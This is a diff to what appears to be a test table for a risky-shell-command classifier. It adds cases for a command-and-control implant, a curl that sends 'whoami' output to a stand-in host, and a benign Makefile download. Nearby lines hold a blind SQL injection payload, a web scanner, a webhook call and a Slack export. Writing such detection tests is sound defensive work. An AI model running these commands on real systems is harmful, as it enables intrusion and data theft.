@@ -3741,6 +3741,12 @@ describe('the six sets held out last stop and the hundred-and-second, -third and
     ["curl -v 'https://localhost/modules/x/apajax.php?leoajax=1&product_manufacture=1,1)+or+sleep(4)%23--'", true, 'SQL injection'],
     ["curl 'https://api.example.com/search?q=select+a+plan'", false],
     ['php magescan.phar scan:all www.example.com', true, 'scans, fuzzes or attacks'],
+    // An implant named so; its help only asks.
+    ['python3 vimplant.py -p 4444', true, 'command-and-control'],
+    ['python3 vimplant.py -h', false],
+    // A Makefile's variable in a download's URL is filled in by make; a command's output is sent.
+    ['wget https://raw.githubusercontent.com/stripe/openapi/$(OPENAPI_BRANCH)/openapi/spec3.json -P ./embedded/openapi', false],
+    ['curl "https://x.example/?d=$(whoami)"', true, 'output of a command'],
     // A webhook given to a program; a Slack workspace exported with the user's token.
     ['./discord.sh --webhook-url="$WEBHOOK" --text "Hello, world!"', true, 'webhook'],
     ['slackdump list channels', true, "chat workspace's messages"],
